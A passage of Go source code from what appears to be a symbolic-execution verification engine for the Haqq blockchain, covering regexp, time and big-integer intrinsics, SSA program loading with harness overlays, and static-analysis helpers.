	P.reg("(*regexp.Regexp).MatchString", func(it *Interp, a []Value) Value {
		s, ok := a[1].(string)
		if !ok || strings.Contains(s, symStrMark) {
			panic(unsupported("regexp match on non-constant string"))
		}
		return re(it, a[0]).MatchString(s)
	})
	P.reg("(*regexp.Regexp).FindStringSubmatch", func(it *Interp, a []Value) Value {
		s, ok := a[1].(string)
		if !ok || strings.Contains(s, symStrMark) {
			panic(unsupported("regexp match on non-constant string"))
		}
		parts := re(it, a[0]).FindStringSubmatch(s)
		if parts == nil {
			return &SliceV{}
		}
		arr := &ArrayV{Elems: make([]Value, len(parts))}
		for i, p := range parts {
			arr.Elems[i] = p
		}
		return &SliceV{Arr: it.newCell(arr, "submatch"), Len: len(parts), Cap: len(parts)}
	})
	P.reg("(*regexp.Regexp).Match", func(it *Interp, a []Value) Value {
		return re(it, a[0]).Match(it.concBytes(a[1]))
	})
	P.reg("(*regexp.Regexp).String", func(it *Interp, a []Value) Value { return re(it, a[0]).String() })
	P.reg(HaqqMod+"/utils.UnsafeStrToBytes", func(it *Interp, a []Value) Value { return it.mkBytes([]byte(a[0].(string))) })
	P.reg(HaqqMod+"/utils.UnsafeBytesToStr", func(it *Interp, a []Value) Value { return string(it.concBytes(a[0])) })
}


// ethCreateAddress mirrors go-ethereum's crypto.CreateAddress (RLP list of address and nonce, keccak-256, last 20 bytes).
func ethCreateAddress(b [20]byte, nonce uint64) [20]byte {
	var nb []byte
	switch {
	case nonce == 0:
		nb = []byte{0x80}
	case nonce < 0x80:
		nb = []byte{byte(nonce)}
	default:
		var tmp []byte
		for n := nonce; n > 0; n >>= 8 {
			tmp = append([]byte{byte(n)}, tmp...)
		}
		nb = append([]byte{0x80 + byte(len(tmp))}, tmp...)
	}
	payload := append(append([]byte{0x94}, b[:]...), nb...)
	enc := append([]byte{0xc0 + byte(len(payload))}, payload...)
	h := sha3.NewLegacyKeccak256()
	h.Write(enc)
	var out [20]byte
	copy(out[:], h.Sum(nil)[12:])
	return out
}
