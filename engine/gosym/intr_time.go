package gosym

import (
	"fmt"
	"math/big"
	"strings"
	"time"
)

var nsPerSec = big.NewInt(1000000000)

func (it *Interp) timeArg(v Value) Value {
	it.checkPoison(v)
	switch x := v.(type) {
	case TimeV:
		return x.NS
	case *Ptr:
		return it.timeArg(it.load(x))
	}
	panic(unsupported(fmt.Sprintf("expected time.Time, got %T at %s", v, it.where())))
}

// timeVal is timeArg keeping the location flag.
func (it *Interp) timeVal(v Value) TimeV {
	it.checkPoison(v)
	switch x := v.(type) {
	case TimeV:
		return x
	case *Ptr:
		return it.timeVal(it.load(x))
	}
	panic(unsupported(fmt.Sprintf("expected time.Time, got %T at %s", v, it.where())))
}

// tzOffset is the node-local time zone offset in seconds: an environment input (one per path), east of UTC positive.
func (it *Interp) tzOffset() Value {
	if v, ok := it.store["env.tz"]; ok {
		return v
	}
	v := it.anyRange("env.tzOffsetSeconds", big.NewInt(-12*3600), big.NewInt(14*3600), "int64")
	it.store["env.tz"] = v
	return v
}

// wallNS is the instant whose UTC calendar fields equal the calendar fields of t in its own location.
func (it *Interp) wallNS(t TimeV) Value {
	if !t.Local {
		return t.NS
	}
	return mkAdd(t.NS, mkMul(it.tzOffset(), nsPerSec))
}

// yearStartsTerm builds (once per path) an ite chain year(ns) for 1970..2400 from a static table of year starts.
func (it *Interp) yearOf(ns Value) Value {
	if b, ok := ns.(*big.Int); ok {
		sec := new(big.Int).Div(b, nsPerSec)
		return big.NewInt(int64(time.Unix(sec.Int64(), 0).UTC().Year()))
	}
	// the whole interval lies within one calendar year: the year is concrete
	if lo, hi := rng(ns); lo != nil && hi != nil {
		y1 := time.Unix(new(big.Int).Div(lo, nsPerSec).Int64(), 0).UTC().Year()
		y2 := time.Unix(new(big.Int).Div(hi, nsPerSec).Int64(), 0).UTC().Year()
		if y1 == y2 && lo.IsInt64() && hi.IsInt64() {
			return big.NewInt(int64(y1))
		}
	}
	if _, ok := it.store["yearfun"]; !ok {
		var sb strings.Builder
		sb.WriteString("(define-fun yearOfNs ((t Int)) Int ")
		n := 0
		for y := 2400; y > 1970; y-- {
			start := new(big.Int).Mul(big.NewInt(time.Date(y, 1, 1, 0, 0, 0, 0, time.UTC).Unix()), nsPerSec)
			fmt.Fprintf(&sb, "(ite (>= t %s) %d ", start.String(), y)
			n++
		}
		sb.WriteString("1970")
		sb.WriteString(strings.Repeat(")", n))
		sb.WriteString(")")
		it.emit(sb.String())
		it.store["yearfun"] = true
	}
	// outside 1970..2400 the table is not valid: the harness must assume the range; record the obligation as a note
	lo := new(big.Int).Mul(big.NewInt(time.Date(1970, 1, 1, 0, 0, 0, 0, time.UTC).Unix()), nsPerSec)
	hi := new(big.Int).Mul(big.NewInt(time.Date(2401, 1, 1, 0, 0, 0, 0, time.UTC).Unix()), nsPerSec)
	if it.feasible(mkOr(mkCmp("<", ns, lo), mkCmp(">=", ns, hi))) {
		panic(unsupported("time.Year() on a time that may lie outside 1970..2400 (the static year table); constrain the harness"))
	}
	return symI("(yearOfNs "+T(ns)+")", big.NewInt(1970), big.NewInt(2400))
}

func registerTime(P *Program) {
	const TT = "(time.Time)."
	P.reg("time.Unix", func(it *Interp, a []Value) Value {
		return TimeV{NS: mkAdd(mkMul(a[0], nsPerSec), a[1]), Local: true}
	})
	P.reg("time.UnixMilli", func(it *Interp, a []Value) Value { return TimeV{NS: mkMul(a[0], big.NewInt(1000000)), Local: true} })
	P.reg("time.UnixMicro", func(it *Interp, a []Value) Value { return TimeV{NS: mkMul(a[0], big.NewInt(1000)), Local: true} })
	P.reg("time.Now", func(it *Interp, a []Value) Value { return PoisonV{Why: "time.Now (wall clock): only usable by telemetry"} })
	P.reg("time.Date", func(it *Interp, a []Value) Value {
		t := time.Date(int(asBig(a[0]).Int64()), time.Month(asBig(a[1]).Int64()), int(asBig(a[2]).Int64()), int(asBig(a[3]).Int64()),
			int(asBig(a[4]).Int64()), int(asBig(a[5]).Int64()), int(asBig(a[6]).Int64()), time.UTC)
		return TimeV{NS: new(big.Int).Add(new(big.Int).Mul(big.NewInt(t.Unix()), nsPerSec), big.NewInt(int64(t.Nanosecond())))}
	})
	P.reg(TT+"Unix", func(it *Interp, a []Value) Value {
		ns := it.timeArg(a[0])
		r := mkDivE(ns, nsPerSec) // floor
		return divRange(r, ns, nsPerSec)
	})
	P.reg(TT+"UnixNano", func(it *Interp, a []Value) Value { return it.timeArg(a[0]) })
	P.reg(TT+"UnixMilli", func(it *Interp, a []Value) Value {
		ns := it.timeArg(a[0])
		r := mkDivE(ns, big.NewInt(1000000))
		return divRange(r, ns, big.NewInt(1000000))
	})
	P.reg(TT+"UTC", func(it *Interp, a []Value) Value { return TimeV{NS: it.timeArg(a[0])} })
	P.reg(TT+"Local", func(it *Interp, a []Value) Value { return TimeV{NS: it.timeArg(a[0]), Local: true} })
	P.reg(TT+"Round", func(it *Interp, a []Value) Value {
		if asBig(a[1]).Sign() == 0 {
			return it.timeVal(a[0])
		}
		panic(unsupported("time.Round"))
	})
	P.reg(TT+"Add", func(it *Interp, a []Value) Value {
		t := it.timeVal(a[0])
		return TimeV{NS: mkAdd(t.NS, a[1]), Local: t.Local}
	})
	P.reg(TT+"Sub", func(it *Interp, a []Value) Value {
		d := mkSub(it.timeArg(a[0]), it.timeArg(a[1]))
		// time.Sub saturates at the Duration range
		if b, ok := d.(*big.Int); ok {
			if b.Cmp(i64hi) > 0 {
				return new(big.Int).Set(i64hi)
			}
			if b.Cmp(i64lo) < 0 {
				return new(big.Int).Set(i64lo)
			}
			return b
		}
		return mkMax(mkMin(d, i64hi), i64lo)
	})
	P.reg(TT+"Before", func(it *Interp, a []Value) Value { return mkCmp("<", it.timeArg(a[0]), it.timeArg(a[1])) })
	P.reg(TT+"After", func(it *Interp, a []Value) Value { return mkCmp(">", it.timeArg(a[0]), it.timeArg(a[1])) })
	P.reg(TT+"Equal", func(it *Interp, a []Value) Value { return mkCmp("=", it.timeArg(a[0]), it.timeArg(a[1])) })
	P.reg(TT+"Compare", func(it *Interp, a []Value) Value { return mkCmp3(it.timeArg(a[0]), it.timeArg(a[1])) })
	P.reg(TT+"IsZero", func(it *Interp, a []Value) Value { return mkCmp("=", it.timeArg(a[0]), zeroTimeNS) })
	P.reg(TT+"Year", func(it *Interp, a []Value) Value { return it.yearOf(it.wallNS(it.timeVal(a[0]))) })
	P.reg(TT+"String", func(it *Interp, a []Value) Value { return symStrMark + "time" })
	P.reg(TT+"Format", func(it *Interp, a []Value) Value { return symStrMark + "time" })
	P.reg("(time.Duration).Seconds", func(it *Interp, a []Value) Value { panic(unsupported("Duration.Seconds (float)")) })
	P.reg("(time.Duration).Milliseconds", func(it *Interp, a []Value) Value { return mkQuoT(a[0], big.NewInt(1000000)) })
	P.reg("(time.Duration).String", func(it *Interp, a []Value) Value { return symStrMark + "dur" })
}

// divRange attaches the exact interval of floor(x / d) for a positive constant d.
func divRange(r Value, x Value, d *big.Int) Value {
	s, ok := r.(*Sym)
	if !ok {
		return r
	}
	l, h := rng(x)
	var lo, hi *big.Int
	if l != nil {
		lo = new(big.Int).Div(l, d)
	}
	if h != nil {
		hi = new(big.Int).Div(h, d)
	}
	return &Sym{S: SInt, T: s.T, Lo: lo, Hi: hi}
}
