package gosym

import (
	"crypto/sha256"
	"go/constant"
	"go/types"
	"encoding/hex"
	"fmt"
	"go/token"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"golang.org/x/tools/go/packages"
	"golang.org/x/tools/go/ssa"
	"golang.org/x/tools/go/ssa/ssautil"
)

type Intrinsic func(it *Interp, args []Value) Value

// Program is the loaded SSA program of /repo plus the overlaid harness files.
type Program struct {
	Prog       *ssa.Program
	Fset       *token.FileSet
	Pkgs       map[string]*ssa.Package
	Overrides  map[string]map[string]*ssa.Function // target -> declaring harness package -> replacement
	OverrideExcept map[string]map[string]bool       // "target|package" -> harness functions for which the override is off
	OverrideList []string
	intrinsics map[string]Intrinsic
	LoadTime   time.Duration
	BuildTime  time.Duration
	RepoDir    string
	pkgsRaw    []*packages.Package
	funcInfo   sync.Map
	ProtoNames map[string]string
}

const HaqqMod = "github.com/haqq-network/haqq"

// Overlay computes the overlay map: every file under harnessDir/<rel>/x.go appears as repoDir/<rel>/x.go.
func Overlay(repoDir, harnessDir string) (map[string][]byte, map[string]string, error) {
	ov := map[string][]byte{}
	paths := map[string]string{}
	err := filepath.Walk(harnessDir, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if info.IsDir() || !strings.HasSuffix(p, ".go") {
			return nil
		}
		rel, _ := filepath.Rel(harnessDir, p)
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		ov[filepath.Join(repoDir, rel)] = b
		paths[filepath.Join(repoDir, rel)] = p
		return nil
	})
	return ov, paths, err
}

var overrideRe = regexp.MustCompile(`(?m)^//verif:override\s+(\S.*?)\s+->\s+(\S+)(?:\s+except=(\S+))?\s*$`)

// Load type-checks the given packages of /repo (with the harness overlay) and builds SSA.
func Load(repoDir, harnessDir string, pkgPaths []string) (*Program, error) {
	t0 := time.Now()
	ov, _, err := Overlay(repoDir, harnessDir)
	if err != nil {
		return nil, err
	}
	// test files of the overlay are only for native replay
	for k := range ov {
		if strings.HasSuffix(k, "_test.go") {
			delete(ov, k)
		}
	}
	cfg := &packages.Config{
		Mode:    packages.LoadAllSyntax,
		Dir:     repoDir,
		Overlay: ov,
		Env:     append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local"),
	}
	pkgs, err := packages.Load(cfg, pkgPaths...)
	if err != nil {
		return nil, err
	}
	var errs []string
	packages.Visit(pkgs, nil, func(p *packages.Package) {
		for _, e := range p.Errors {
			if strings.HasPrefix(p.PkgPath, HaqqMod) {
				errs = append(errs, p.PkgPath+": "+e.Error())
			}
		}
	})
	if len(errs) > 0 {
		return nil, fmt.Errorf("load errors:\n%s", strings.Join(errs, "\n"))
	}
	prog, _ := ssautil.AllPackages(pkgs, ssa.InstantiateGenerics)
	P := &Program{Prog: prog, Fset: prog.Fset, Pkgs: map[string]*ssa.Package{}, Overrides: map[string]map[string]*ssa.Function{}, RepoDir: repoDir, pkgsRaw: pkgs}
	for _, p := range prog.AllPackages() {
		P.Pkgs[p.Pkg.Path()] = p
	}
	tb := time.Now()
	prog.Build()
	P.BuildTime = time.Since(tb)
	P.intrinsics = map[string]Intrinsic{}
	registerIntrinsics(P)
	P.scanProtoNames()
	// overrides declared in harness files
	for file, src := range ov {
		for _, m := range overrideRe.FindAllStringSubmatch(string(src), -1) {
			target, repl := m[1], m[2]
			rel, _ := filepath.Rel(repoDir, filepath.Dir(file))
			pkgPath := HaqqMod + "/" + filepath.ToSlash(rel)
			sp := P.Pkgs[pkgPath]
			if sp == nil {
				continue // harness file of a package not loaded in this run
			}
			fn := sp.Func(repl)
			if fn == nil {
				return nil, fmt.Errorf("override target %s: harness func %s not found in %s", target, repl, pkgPath)
			}
			if P.Overrides[target] == nil {
				P.Overrides[target] = map[string]*ssa.Function{}
			}
			P.Overrides[target][pkgPath] = fn
			if m[3] != "" {
				if P.OverrideExcept == nil {
					P.OverrideExcept = map[string]map[string]bool{}
				}
				ex := map[string]bool{}
				for _, h := range strings.Split(m[3], ",") {
					ex[h] = true
				}
				P.OverrideExcept[target+"|"+pkgPath] = ex
			}
			P.OverrideList = append(P.OverrideList, target+" -> "+pkgPath+"."+repl)
		}
	}
	sort.Strings(P.OverrideList)
	P.LoadTime = time.Since(t0)
	return P, nil
}

// override returns the replacement of a dependency function that is in force for a harness of package entryPkg: overrides
// are scoped to the harness package that declares them (plus the global ones of the zzverif package), so that harnesses of
// different packages loaded in one run do not redirect each other's dependencies.
func (P *Program) override(name, entryPkg, harness string) *ssa.Function {
	m := P.Overrides[name]
	if m == nil {
		return nil
	}
	if fn := m[entryPkg]; fn != nil {
		if P.OverrideExcept[name+"|"+entryPkg][harness] {
			return nil
		}
		return fn
	}
	return m[HaqqMod+"/zzverif"]
}

// noteFunc records the repository functions (not harness code) that were executed symbolically.
func (P *Program) noteFunc(r *Run, fn *ssa.Function) {
	if r == nil {
		return
	}
	v, ok := P.funcInfo.Load(fn)
	if !ok {
		info := ""
		if fn.Pkg != nil && strings.HasPrefix(fn.Pkg.Pkg.Path(), HaqqMod) && fn.Syntax() != nil {
			file := P.Fset.Position(fn.Pos()).Filename
			if !strings.Contains(file, "zz_verif") && !strings.Contains(file, "/zzverif/") {
				info = P.FuncHash(fn)
				if info == "" {
					info = "?"
				}
			}
		}
		P.funcInfo.Store(fn, info)
		v = info
	}
	if s := v.(string); s != "" {
		r.addFunc(fn.String(), s)
	}
}

func (P *Program) lookupIntrinsic(fn *ssa.Function, name string) (Intrinsic, bool) {
	h, ok := P.intrinsics[name]
	if ok {
		return h, true
	}
	if fn.Pkg != nil && strings.HasSuffix(fn.Pkg.Pkg.Path(), "/zzverif") {
		h, ok = P.intrinsics["zzverif."+fn.Name()]
		return h, ok
	}
	// generated protobuf (gogoproto) marshalling code: typed blobs
	switch fn.Name() {
	case "Marshal", "Unmarshal", "Size":
		if fn.Signature.Recv() != nil && fn.Syntax() != nil && strings.HasSuffix(P.Fset.Position(fn.Pos()).Filename, ".pb.go") {
			switch fn.Name() {
			case "Marshal":
				return pbMarshal, true
			case "Unmarshal":
				return pbUnmarshal, true
			case "Size":
				return pbSize, true
			}
		}
	}
	return nil, false
}

// FuncHash returns a short hash of the source text of fn (evidence: which code was encoded).
func (P *Program) FuncHash(fn *ssa.Function) string {
	if fn.Syntax() == nil {
		return ""
	}
	s, e := P.Fset.Position(fn.Syntax().Pos()), P.Fset.Position(fn.Syntax().End())
	b, err := os.ReadFile(s.Filename)
	if err != nil || e.Offset > len(b) {
		return ""
	}
	h := sha256.Sum256(b[s.Offset:e.Offset])
	return hex.EncodeToString(h[:6])
}

// scanProtoNames statically extracts the proto.RegisterType((*T)(nil), "full.Name") calls of generated code, so that
// proto.MessageName / sdk.MsgTypeURL can be answered without running the registration side effects.
func (P *Program) scanProtoNames() {
	P.ProtoNames = map[string]string{}
	for _, pkg := range P.Prog.AllPackages() {
		for _, m := range pkg.Members {
			fn, ok := m.(*ssa.Function)
			if !ok || !strings.HasPrefix(fn.Name(), "init") {
				continue
			}
			for _, b := range fn.Blocks {
				for _, ins := range b.Instrs {
					c, ok := ins.(*ssa.Call)
					if !ok {
						continue
					}
					callee := c.Call.StaticCallee()
					if callee == nil || callee.Name() != "RegisterType" || len(c.Call.Args) != 2 {
						continue
					}
					name, ok := c.Call.Args[1].(*ssa.Const)
					if !ok || name.Value == nil {
						continue
					}
					var t types.Type
					switch a := c.Call.Args[0].(type) {
					case *ssa.MakeInterface:
						t = a.X.Type()
					case *ssa.ChangeInterface:
						t = a.X.Type()
					default:
						t = a.Type()
					}
					P.ProtoNames[t.String()] = constant.StringVal(name.Value)
				}
			}
		}
	}
}

// ReachLabels lists the constant labels of the zzverif.Reach calls in a harness function (including its closures): the
// reachability witnesses every run of the harness is expected to hit.
func ReachLabels(fn *ssa.Function) []string {
	seen := map[string]bool{}
	var walk func(f *ssa.Function)
	done := map[*ssa.Function]bool{}
	walk = func(f *ssa.Function) {
		if f == nil || done[f] {
			return
		}
		done[f] = true
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				c, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cf := c.Common().StaticCallee()
				if cf == nil || cf.Pkg == nil || cf.Pkg.Pkg.Path() != HaqqMod+"/zzverif" || cf.Name() != "Reach" {
					continue
				}
				if k, ok := c.Common().Args[0].(*ssa.Const); ok && k.Value != nil {
					seen[constant.StringVal(k.Value)] = true
				}
			}
		}
		for _, a := range f.AnonFuncs {
			walk(a)
		}
	}
	walk(fn)
	var out []string
	for k := range seen {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// CallSiteArg describes one argument of one static call site found in a function's SSA.
type CallSiteArg struct {
	Pos  string
	Type string // concrete type converted to the interface parameter, or "" when the argument is not a constant conversion
	Param string // name of the enclosing function's own parameter when the argument is that parameter, unchanged
	Desc string
}

// CallArgTypes lists, for every static call of calleeName inside fnName (closures included), the concrete type that is
// converted to the interface parameter number arg (0-based, receiver excluded). It reads the SSA built from the current source.
func (P *Program) CallArgTypes(fnName, calleeName string, arg int) ([]CallSiteArg, error) {
	fn, err := P.FindFunction(fnName)
	if err != nil {
		return nil, err
	}
	var out []CallSiteArg
	done := map[*ssa.Function]bool{}
	var walk func(f *ssa.Function)
	walk = func(f *ssa.Function) {
		if f == nil || done[f] {
			return
		}
		done[f] = true
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				c, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				cf := c.Common().StaticCallee()
				if cf == nil || cf.String() != calleeName || arg >= len(c.Common().Args) {
					continue
				}
				a := c.Common().Args[arg]
				site := CallSiteArg{Pos: P.Fset.Position(c.Pos()).String(), Desc: a.String()}
				if mi, ok := a.(*ssa.MakeInterface); ok {
					site.Type = mi.X.Type().String()
				}
				if pa, ok := a.(*ssa.Parameter); ok {
					site.Param = pa.Name()
				}
				out = append(out, site)
			}
		}
		for _, a := range f.AnonFuncs {
			walk(a)
		}
	}
	walk(fn)
	return out, nil
}


// FindFunction resolves "pkg/path.Func", "(pkg/path.Type).Method" or "(*pkg/path.Type).Method" in the loaded program.
func (P *Program) FindFunction(name string) (*ssa.Function, error) {
	if strings.HasPrefix(name, "(") {
		end := strings.Index(name, ").")
		if end < 0 {
			return nil, fmt.Errorf("bad method name %s", name)
		}
		recv, meth := name[1:end], name[end+2:]
		ptr := strings.HasPrefix(recv, "*")
		recv = strings.TrimPrefix(recv, "*")
		i := strings.LastIndex(recv, ".")
		sp := P.Pkgs[recv[:i]]
		if sp == nil {
			return nil, fmt.Errorf("package %s not loaded", recv[:i])
		}
		t := sp.Type(recv[i+1:])
		if t == nil {
			return nil, fmt.Errorf("type %s not found", recv)
		}
		var T types.Type = t.Type()
		if ptr {
			T = types.NewPointer(T)
		}
		fn := P.Prog.LookupMethod(T, sp.Pkg, meth)
		if fn == nil {
			return nil, fmt.Errorf("method %s not found", name)
		}
		return fn, nil
	}
	i := strings.LastIndex(name, ".")
	if i < 0 {
		return nil, fmt.Errorf("bad function name %s", name)
	}
	sp := P.Pkgs[name[:i]]
	if sp == nil {
		return nil, fmt.Errorf("package %s not loaded", name[:i])
	}
	fn := sp.Func(name[i+1:])
	if fn == nil {
		return nil, fmt.Errorf("function %s not found", name)
	}
	return fn, nil
}

// StaticCallees lists the static callees (qualified names) of a function and its closures with the number of call sites.
func (P *Program) StaticCallees(fnName string) (map[string]int, error) {
	fn, err := P.FindFunction(fnName)
	if err != nil {
		return nil, err
	}
	out := map[string]int{}
	done := map[*ssa.Function]bool{}
	var walk func(f *ssa.Function)
	walk = func(f *ssa.Function) {
		if f == nil || done[f] {
			return
		}
		done[f] = true
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				if c, ok := in.(ssa.CallInstruction); ok {
					if cf := c.Common().StaticCallee(); cf != nil {
						out[cf.String()]++
					}
				}
			}
		}
		for _, a := range f.AnonFuncs {
			walk(a)
		}
	}
	walk(fn)
	return out, nil
}


// MapRanges lists the functions of the repository's own packages (harness overlays excluded) that range over a Go map,
// with the position of each such range statement. Used as an audit aid: these are the places where iteration order can
// leak into results.
func (P *Program) MapRanges() []string {
	var out []string
	seen := map[*ssa.Function]bool{}
	var visit func(fn *ssa.Function)
	visit = func(fn *ssa.Function) {
		if fn == nil || seen[fn] {
			return
		}
		seen[fn] = true
		for _, b := range fn.Blocks {
			for _, ins := range b.Instrs {
				if r, ok := ins.(*ssa.Range); ok {
					if _, isMap := r.X.Type().Underlying().(*types.Map); isMap {
						pos := P.Fset.Position(r.Pos())
						if !strings.Contains(pos.Filename, "zz_verif") && !strings.Contains(pos.Filename, "/zzverif/") && !strings.HasSuffix(pos.Filename, ".pb.go") && !strings.HasSuffix(pos.Filename, ".pb.gw.go") {
							out = append(out, fmt.Sprintf("%s\t%s:%d", fn.String(), pos.Filename, pos.Line))
						}
					}
				}
			}
		}
		for _, a := range fn.AnonFuncs {
			visit(a)
		}
	}
	for path, pkg := range P.Pkgs {
		if !strings.HasPrefix(path, HaqqMod) {
			continue
		}
		for _, m := range pkg.Members {
			switch x := m.(type) {
			case *ssa.Function:
				visit(x)
			case *ssa.Type:
				for _, t := range []types.Type{x.Type(), types.NewPointer(x.Type())} {
					ms := P.Prog.MethodSets.MethodSet(t)
					for i := 0; i < ms.Len(); i++ {
						visit(P.Prog.MethodValue(ms.At(i)))
					}
				}
			}
		}
	}
	sort.Strings(out)
	return out
}


// VariadicStrings returns, for every call of calleeName inside fnName, the constant strings passed as its variadic
// argument, in order (the slice is built from an array whose elements are stored one by one).
func (P *Program) VariadicStrings(fnName, calleeName string) ([][]string, error) {
	fn, err := P.FindFunction(fnName)
	if err != nil {
		return nil, err
	}
	var out [][]string
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			c, ok := in.(ssa.CallInstruction)
			if !ok {
				continue
			}
			cf := c.Common().StaticCallee()
			if cf == nil || cf.String() != calleeName || len(c.Common().Args) == 0 {
				continue
			}
			sl, ok := c.Common().Args[len(c.Common().Args)-1].(*ssa.Slice)
			if !ok {
				return nil, fmt.Errorf("%s: variadic argument of %s is not a literal list", P.Fset.Position(c.Pos()), calleeName)
			}
			alloc, ok := sl.X.(*ssa.Alloc)
			if !ok {
				return nil, fmt.Errorf("%s: variadic argument of %s is not built in place", P.Fset.Position(c.Pos()), calleeName)
			}
			vals := map[int64]string{}
			max := int64(-1)
			for _, ref := range *alloc.Referrers() {
				ia, ok := ref.(*ssa.IndexAddr)
				if !ok {
					continue
				}
				ic, ok := ia.Index.(*ssa.Const)
				if !ok {
					continue
				}
				for _, r2 := range *ia.Referrers() {
					if st, ok := r2.(*ssa.Store); ok {
						if cv, ok := st.Val.(*ssa.Const); ok && cv.Value != nil {
							vals[ic.Int64()] = constant.StringVal(cv.Value)
							if ic.Int64() > max {
								max = ic.Int64()
							}
						}
					}
				}
			}
			var list []string
			for i := int64(0); i <= max; i++ {
				list = append(list, vals[i])
			}
			out = append(out, list)
		}
	}
	return out, nil
}
