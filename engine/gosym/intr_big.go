package gosym

import (
	"fmt"
	"go/token"
	"math/big"
)

func (it *Interp) bigObj(v Value) *BigV {
	it.checkPoison(v)
	p, ok := v.(*Ptr)
	if !ok {
		panic(unsupported(fmt.Sprintf("expected *big.Int, got %T at %s", v, it.where())))
	}
	if p == nil {
		it.nilDeref()
	}
	o, ok := it.load(p).(*BigV)
	if !ok {
		panic(unsupported(fmt.Sprintf("pointer does not address a big.Int (%T)", it.load(p))))
	}
	return o
}

func (it *Interp) bigVal(v Value) Value { return it.bigObj(v).V }

func (it *Interp) newBig(v Value) *Ptr { return &Ptr{C: it.newCell(&BigV{V: v}, "big")} }

// BitLenV is the result of big.Int.BitLen on a symbolic value; only comparisons against constants are supported.
type BitLenV struct{ V Value }

// cmpBitLen: BitLen(v) op c, using BitLen(v) <= c  <=>  |v| < 2^c.
func cmpBitLen(op token.Token, b BitLenV, c *big.Int, flipped bool) Value {
	if flipped {
		switch op {
		case token.LSS:
			op = token.GTR
		case token.LEQ:
			op = token.GEQ
		case token.GTR:
			op = token.LSS
		case token.GEQ:
			op = token.LEQ
		}
	}
	n := int(c.Int64())
	a := mkAbs(b.V)
	le := func(k int) Value { // BitLen <= k
		if k < 0 {
			return false
		}
		return mkCmp("<", a, pow2(k))
	}
	switch op {
	case token.LEQ:
		return le(n)
	case token.LSS:
		return le(n - 1)
	case token.GTR:
		return mkNot(le(n))
	case token.GEQ:
		return mkNot(le(n - 1))
	case token.EQL:
		return mkAnd(le(n), mkNot(le(n-1)))
	case token.NEQ:
		return mkNot(mkAnd(le(n), mkNot(le(n-1))))
	}
	panic(unsupported("operation on BitLen of a symbolic value"))
}

func mkSign(v Value) Value {
	if b, ok := v.(*big.Int); ok {
		return big.NewInt(int64(b.Sign()))
	}
	if nonNeg(v) {
		return symI("(ite (= "+T(v)+" 0) 0 1)", big.NewInt(0), big.NewInt(1))
	}
	return symI("(ite (< "+T(v)+" 0) (- 1) (ite (= "+T(v)+" 0) 0 1))", big.NewInt(-1), big.NewInt(1))
}

func mkCmp3(a, b Value) Value {
	x, xo := a.(*big.Int)
	y, yo := b.(*big.Int)
	if xo && yo {
		return big.NewInt(int64(x.Cmp(y)))
	}
	return symI("(ite (< "+T(a)+" "+T(b)+") (- 1) (ite (= "+T(a)+" "+T(b)+") 0 1))", big.NewInt(-1), big.NewInt(1))
}

func mkAbs(v Value) Value {
	if b, ok := v.(*big.Int); ok {
		return new(big.Int).Abs(b)
	}
	if nonNeg(v) {
		return v
	}
	l, h := rng(v)
	var hi *big.Int
	if l != nil && h != nil {
		hi = maxAbs(l, h)
	}
	return symI("(absI "+T(v)+")", big.NewInt(0), hi)
}

func registerBig(P *Program) {
	const B = "(*math/big.Int)."
	P.reg("math/big.NewInt", func(it *Interp, a []Value) Value { return it.newBig(a[0]) })
	bin := func(f func(it *Interp, x, y Value) Value) Intrinsic {
		return func(it *Interp, a []Value) Value {
			z := it.bigObj(a[0])
			x, y := it.bigVal(a[1]), it.bigVal(a[2])
			z.V = it.nameVal(f(it, x, y))
			return a[0]
		}
	}
	P.reg(B+"Add", bin(func(it *Interp, x, y Value) Value { return mkAdd(x, y) }))
	P.reg(B+"Sub", bin(func(it *Interp, x, y Value) Value { return mkSub(x, y) }))
	P.reg(B+"Mul", bin(func(it *Interp, x, y Value) Value { return mkMul(x, y) }))
	divz := func(it *Interp, y Value) {
		it.panicIf(mkCmp("=", y, big.NewInt(0)), "division by zero")
	}
	P.reg(B+"Div", bin(func(it *Interp, x, y Value) Value { divz(it, y); return mkDivE(x, y) }))
	P.reg(B+"Mod", bin(func(it *Interp, x, y Value) Value { divz(it, y); return mkModE(x, y) }))
	P.reg(B+"Quo", bin(func(it *Interp, x, y Value) Value { divz(it, y); return mkQuoT(x, y) }))
	P.reg(B+"Rem", bin(func(it *Interp, x, y Value) Value { divz(it, y); return mkRemT(x, y) }))
	P.reg(B+"QuoRem", func(it *Interp, a []Value) Value {
		z, r := it.bigObj(a[0]), it.bigObj(a[3])
		x, y := it.bigVal(a[1]), it.bigVal(a[2])
		divz(it, y)
		q, rm := it.nameVal(mkQuoT(x, y)), it.nameVal(mkRemT(x, y))
		z.V, r.V = q, rm
		return Tuple{a[0], a[3]}
	})
	P.reg(B+"DivMod", func(it *Interp, a []Value) Value {
		z, r := it.bigObj(a[0]), it.bigObj(a[3])
		x, y := it.bigVal(a[1]), it.bigVal(a[2])
		divz(it, y)
		q, rm := it.nameVal(mkDivE(x, y)), it.nameVal(mkModE(x, y))
		z.V, r.V = q, rm
		return Tuple{a[0], a[3]}
	})
	un := func(f func(x Value) Value) Intrinsic {
		return func(it *Interp, a []Value) Value {
			z := it.bigObj(a[0])
			z.V = f(it.bigVal(a[1]))
			return a[0]
		}
	}
	P.reg(B+"Set", un(func(x Value) Value { return x }))
	P.reg(B+"Neg", un(mkNeg))
	P.reg(B+"Abs", un(mkAbs))
	setScalar := func(it *Interp, a []Value) Value {
		z := it.bigObj(a[0])
		z.V = a[1]
		return a[0]
	}
	P.reg(B+"SetInt64", setScalar)
	P.reg(B+"SetUint64", setScalar)
	P.reg(B+"SetString", func(it *Interp, a []Value) Value {
		z := it.bigObj(a[0])
		switch s := a[1].(type) {
		case string:
			b, ok := new(big.Int).SetString(s, int(asBig(a[2]).Int64()))
			if !ok {
				return Tuple{(*Ptr)(nil), false}
			}
			z.V = b
			return Tuple{a[0], true}
		case SymStr:
			z.V = s.V
